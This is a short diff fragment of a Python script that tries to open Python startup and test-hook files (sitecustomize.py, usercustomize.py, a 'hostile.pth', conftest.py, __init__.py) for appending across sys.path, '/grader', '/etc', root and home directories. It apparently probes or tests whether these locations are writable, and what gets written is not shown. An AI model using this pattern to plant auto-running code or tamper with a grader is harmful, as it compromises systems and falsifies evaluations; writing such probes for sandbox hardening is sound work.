@@ -5,7 +5,7 @@ import os
 import sys
 
 targets = [*filter(None, sys.path), sys.prefix, sys.base_prefix, "/course/gmlib", "/grader", "/usr/lib", "/etc", "/", "/home"]
-for folder in targets:
+for folder in [t for t in targets if not t.startswith("/tmp/")]:  # /tmp is its own, with what lies in it
     for name in ["sitecustomize.py", "usercustomize.py", "hostile.pth", "conftest.py", "__init__.py"]:
         try:
             with open(os.path.join(folder, name), "a") as file:
